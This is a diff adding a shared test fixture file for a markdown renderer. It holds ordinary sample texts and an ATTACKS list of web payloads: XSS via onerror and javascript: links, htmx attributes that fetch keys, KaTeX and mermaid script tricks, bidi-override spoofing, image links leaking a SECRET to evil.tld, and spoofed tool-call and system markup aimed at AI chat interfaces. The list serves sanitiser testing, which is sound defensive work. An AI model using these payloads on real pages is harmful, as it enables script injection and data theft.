@@ -1,0 +1,120 @@
+"""Texts that several tests share: usual answers, and attacks from the plan (XS, EX, RD)."""
+
+SAMPLES = {
+    "everything": """# Title with `code` and *emphasis*
+
+Hello **bold text**, `code`, ~~gone~~ and [a link](https://example.org/path?a=1&b=2 "title"). It costs $5 and $10.
+A second line with a hard break\\
+and https://example.org/auto, www.example.org. Mail a@example.org.
+
+Setext
+======
+
+- one
+- two **bold**
+  - nested *item*
+    with a second line
+- [ ] open task
+- [x] done task
+
+1. first
+
+   a paragraph of its own
+2. second
+
+   ```python
+   def f(x):
+       return x < 2  # comment
+   ```
+3. third
+
+> quote
+> - list in it
+>
+> more
+
+| Name | Value | Text |
+|:-----|------:|:----:|
+| a | 1 | `x \\| y` |
+| **b** | $x^2$ | [l](http://x.y) |
+| c |
+
+---
+
+Inline $a_1 + b^2$, \\(c \\le d\\) and
+
+$$
+\\frac{a}{b}
++ c
+= d
+$$
+
+\\[
+\\sum_{i=1}^n i
+\\]
+
+```
+plain code
+```
+
+    indented code
+
+    more of it
+
+![an image](https://img.example.org/x.png)
+
+A note[^1].
+
+[^1]: The note.
+
+```js
+open = "fence
+""",
+    "chinese": """## 如何使用
+
+**你好，世界。**这是一个*例子*，包括`代码`和“**引用**”。价格是 $5，不是 $10。
+
+1. 第一项：**重点**说明。
+2. 第二项，链接[在这里](https://example.org/中文)。
+
+| 名称 | 说明 |
+|---|---|
+| 甲 | 很长的说明文字，没有空格，也没有换行。 |
+""",
+    "unclosed": "A *stray star and `a tick and [a bracket and $a dollar and <a tag and **two\n\n- x\n- **y\n\n```\ncode",
+    "no pipes": "a | b\n--|--\n1 | 2\n3 | 4\n\nafter",
+    "quotes": "> one\nlazy\n>> deeper\n> ```\n> code\nout\n\n> 1. a\n>    b\n> 2. c\n",
+    "returns": "one\r\ntwo\r\n\r\n- a\r\n- b\r\n",
+}
+
+ATTACKS = [
+    "<img src=x onerror=alert(1)>",
+    '<a href="',
+    "<!--",
+    "<style>*{display:none}",
+    "<textarea>",
+    "<plaintext>",
+    '<svg><title><a id="</title><img src=x onerror=alert(1)>">',
+    "```../../etc\nx\n```\n\n```text/html\n<b>\n```\n\n```mermaid\nclick A \"javascript:alert(1)\"\n```\n\n```svg\n<svg onload=x>\n```",
+    '```py" onclick="x\nx\n```\n\n``` <hx-partial>\nx\n```\n\n~~~ <script>\nx\n~~~',
+    "[a](javascript:alert(1)) [a](JaVaScRiPt&colon;alert(1)) [a](java\nscript:x) [a](\x01javascript:x)",
+    "[a](data:text/html;base64,PHNjcmlwdD4=) [a](vbscript:x) <javascript:alert(1)>",
+    "[a][x]\n\n[x]: javascript:alert(1)\n\n[x]",
+    "[a](vscode://x) [a](ms-msdt:/id) [a](search-ms:q) [a](smb://h/s) [a](//evil.tld) [a](\\\\evil\\share) [a](/admin/) [a](?x)",
+    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{http://evil}$ $\\htmlClass{a}{x}$ $\\url{javascript:x}$",
+    "$$\\undefined{<img src=x onerror=alert(1)>}$$ $\\text{<hx-partial>}$ $<hx-partial id=x>$",
+    "$\\def\\a{\\a\\a}\\a$ $\\rule{999999em}{999999em}$ $\\hspace{9999em}$",
+    '```mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD; A["<img onerror=x>"]\n```',
+    '<div hx-get="/api/keys" hx-trigger=load> <div hx-swap-oob="true" id="composer"> <div data-hx-post=/x>',
+    "<div hx-on:load=x> <script hx-get=/x> <template> <head><title>x</title></head> <hx-partial hx-target=#composer>",
+    '<details type="tool_calls"><summary>x</summary></details> <span class="system">System:</span>',
+    "\u202egnp.exe \u2066x\u2069 `\u202e` [\u202e](http://x/\u202e) \U000e0041\U000e0042\n\n```\n\u202e\n```",
+    '[a](http://x/ "<hx-partial id=composer>") ![<hx-b>](http://x/<hx-c> "<head>") <http://x/<script>> http://x/<title>',
+    "![x](https://evil.tld/?q=SECRET) [![](http://a/b)](http://c/d) ![a][r] <img src=http://evil>\n\n[r]: http://evil.tld/x",
+    "![x](/files/1) ![x](/proxy?url=http://a) ![](http://localhost:8000/logout) ![](data:image/svg+xml,x)",
+    "| a | b |\n|---|---|\n| <script> | ![x](http://x) |\n| `<hx-a>` | [x](javascript:y) |",
+    "[^<hx-a>]: note <script>\n\ntext[^<hx-a>] [^1]\n\n[^1]: x",
+    "# <script>\n\n<title>\n===\n\n- <head>\n- <hx-x>\n\n> <template>",
+    "&lt;script&gt; &#60;hx-partial&#62; \\<script> `&lt;hx-a>` &NewLine;javascript:",
+    "<a\nhref=javascript:x>\n<?php <![CDATA[ <!DOCTYPE html> </div></p></article>",
+]
